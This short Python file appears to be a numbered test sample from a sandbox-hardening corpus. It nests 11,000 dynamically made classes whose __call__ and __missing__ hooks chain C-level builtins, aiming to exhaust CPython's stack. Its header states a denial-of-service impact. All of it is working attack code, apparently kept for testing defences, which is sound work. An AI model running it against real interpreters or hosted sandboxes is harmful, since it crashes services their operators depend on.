# technique: builtins that call one another through what classes have for special methods, eleven thousand deep, with no function of Python between
# source: own, siblings of 92_builtins_within_builtins.py
# goal: code of the guest's that runs deeper than CPython's builtins go
# impact: dos
class Leaf:
    name = ''

    def reached(self, *_):
        escaped(self.name)

    __next__ = __call__ = __getitem__ = reached


def nest(wrap):
    leaf = Leaf()
    kept.append(leaf)
    for _ in range(11_000):
        leaf = wrap(leaf)
        kept.append(leaf)
    return leaf


kept = []
attempts = {
    'call of an object': lambda: nest(lambda x: type('A', (), {'__call__': x})())(),
    'missing key': lambda: nest(lambda x: type('D', (dict,), {'__missing__': x.__getitem__})())[1],
}
for Leaf.name, attempt in attempts.items():
    kept.clear()
    try:
        attempt()
    except RecursionError:
        pass
